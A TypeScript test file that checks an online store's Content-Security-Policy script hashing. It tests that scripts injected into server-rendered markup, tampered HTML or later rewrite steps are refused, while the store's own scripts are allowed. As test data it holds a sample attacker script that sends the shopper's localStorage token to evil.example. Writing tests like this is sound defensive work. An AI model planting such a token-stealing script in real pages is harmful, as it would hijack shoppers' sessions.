import { createElement as h } from "react";
import { renderToPipeableStream } from "react-dom/server.bun";
import { describe, expect, it } from "vitest";
import { testConfig } from "../../src/server/config";
import { pageWithScriptHashes, scriptHash } from "../../src/server/render/script-hashes";
import { createPageStep, PAGE_STEP_SCRIPTS } from "../../src/server/render/page-renderer";

/**
 * A script that reaches a page on the server without being one of the store's (a kept part, a
 * loader's HTML or a rewrite that gained one) must not run: the page's Content-Security-Policy
 * lists the scripts the store writes, never whatever the final HTML contains (decision 215).
 */

/** What an attacker's script would do with the shopper's session. */
const STOLEN = "fetch('https://evil.example/?t='+localStorage.token)";
const STORE_SCRIPT = 'try{document.documentElement.dataset.greeted="1"}catch(e){}';
const MODULE = 'import("/assets/entry.client.js");';

/** A page as the store's server entry renders it: React's string build, its pieces kept as written. */
function renderPieces(keptMarkup: string): Promise<string[]> {
  const page = h(
    "html",
    { lang: "en-IN" },
    h("head", null, h("meta", { charSet: "utf-8" })),
    h(
      "body",
      null,
      h("main", { id: "main" }, h("h1", null, "Oversized tees")),
      // A part the server writes in as markup (decision 196), here one that gained a script.
      // biome-ignore lint/security/noDangerouslySetInnerHtml: the markup under test
      h("footer", { "data-kept": "footer", dangerouslySetInnerHTML: { __html: keptMarkup } }),
      // The store's own scripts, written as React writes them (a constant of the store, React Router's module script).
      // biome-ignore lint/security/noDangerouslySetInnerHtml: a constant
      h("script", { dangerouslySetInnerHTML: { __html: STORE_SCRIPT } }),
      // biome-ignore lint/security/noDangerouslySetInnerHtml: a constant
      h("script", { type: "module", async: true, dangerouslySetInnerHTML: { __html: MODULE } }),
    ),
  );
  return new Promise((resolve, reject) => {
    const pieces: string[] = [];
    const destination = {
      write: (chunk: string) => pieces.push(chunk) > 0,
      end: () => resolve(pieces),
      destroy: reject,
      on: () => destination,
    };
    const { pipe } = renderToPipeableStream(page, {
      progressiveChunkSize: Number.POSITIVE_INFINITY,
      onAllReady: () => pipe(destination as unknown as NodeJS.WritableStream),
      onShellError: reject,
    });
  });
}

const html = { "content-type": "text/html; charset=utf-8" };
const scriptSources = (res: Response) =>
  (res.headers.get("content-security-policy") ?? "")
    .split(";")
    .map((d) => d.trim())
    .find((d) => d.startsWith("script-src ")) ?? "";

describe("a script injected into a page on the server", () => {
  const pageStep = createPageStep(testConfig());

  it("is not allowed by the page's policy when it came inside markup written into the page, while the store's own scripts are", async () => {
    const pieces = await renderPieces(`<p>Made in India</p><script>${STOLEN}</script>`);
    const res = await pageStep(new Response(pieces.join(""), { headers: html }), pieces);
    const body = await res.text();
    // The page does carry it: only the policy stands between it and the shopper's token.
    expect(body).toContain(`<script>${STOLEN}</script>`);
    const allowed = scriptSources(res);
    expect(allowed).not.toContain("unsafe-inline");
    expect(allowed).not.toContain(scriptHash(STOLEN));
    for (const own of [STORE_SCRIPT, MODULE, ...PAGE_STEP_SCRIPTS]) expect(allowed).toContain(`'sha256-${scriptHash(own)}'`);
  });

  it("is not allowed when the page's HTML was not handed over as the renderer wrote it", async () => {
    const pieces = await renderPieces("<p>Made in India</p>");
    const tampered = pieces.join("").replace("</main>", `</main><script>${STOLEN}</script>`);
    const res = await pageStep(new Response(tampered, { headers: html }), undefined);
    expect(await res.text()).toContain(STOLEN);
    expect(scriptSources(res)).not.toContain(scriptHash(STOLEN));
  });

  it("is not allowed when a step after the renderer adds it to the page", async () => {
    const pieces = await renderPieces("<p>Made in India</p>");
    const gainsOne = (segments: readonly string[]) => segments.map((s) => s.replace("</main>", `</main><script>${STOLEN}</script>`));
    const own = PAGE_STEP_SCRIPTS.map(scriptHash);
    const res = await pageWithScriptHashes(new Response(null, { headers: html }), testConfig(), gainsOne, pieces, own);
    expect(await res.text()).toContain(STOLEN);
    expect(scriptSources(res)).not.toContain(scriptHash(STOLEN));
    expect(scriptSources(res)).toContain(`'sha256-${scriptHash(STORE_SCRIPT)}'`);
  });
});
